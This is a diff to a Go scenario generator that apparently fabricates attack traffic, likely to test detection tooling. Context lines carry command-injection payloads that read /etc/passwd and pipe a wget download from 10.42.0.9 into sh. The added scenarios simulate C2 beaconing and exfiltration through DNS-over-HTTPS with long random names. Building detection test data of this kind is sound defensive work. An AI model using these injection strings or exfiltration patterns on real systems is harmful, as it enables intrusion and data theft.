@@ -268,6 +268,16 @@ func plots() []plot {
 			hop(0, crm, admin, "/ping?host=127.0.0.1;id;cat%20/etc/passwd")
 			hop(5*time.Minute, admin, reports, "/render?tpl=1;wget%20http://10.42.0.9/x.sh%20-O-%7Csh")
 		}},
+		{"a beacon that asks", "images", "", func(a *act) {
+			a.every(time.Minute, 90, func(_ int, at time.Duration) {
+				a.do(at+time.Duration(a.r.IntN(12_000))*time.Millisecond, "cdn.fonts.example", Record{URL: "/f/" + random(a.r, 6), Received: 180})
+			})
+		}},
+		{"a few long names by DNS over HTTPS", "notifications", curl, func(a *act) {
+			a.every(2*time.Second, 150, func(_ int, at time.Duration) {
+				a.do(at, "dns.resolver.example", Record{URL: "/resolve?name=" + random(a.r, 58) + "." + random(a.r, 50) + ".fonts.example&type=TXT", Received: 120})
+			})
+		}},
 	}
 }
 
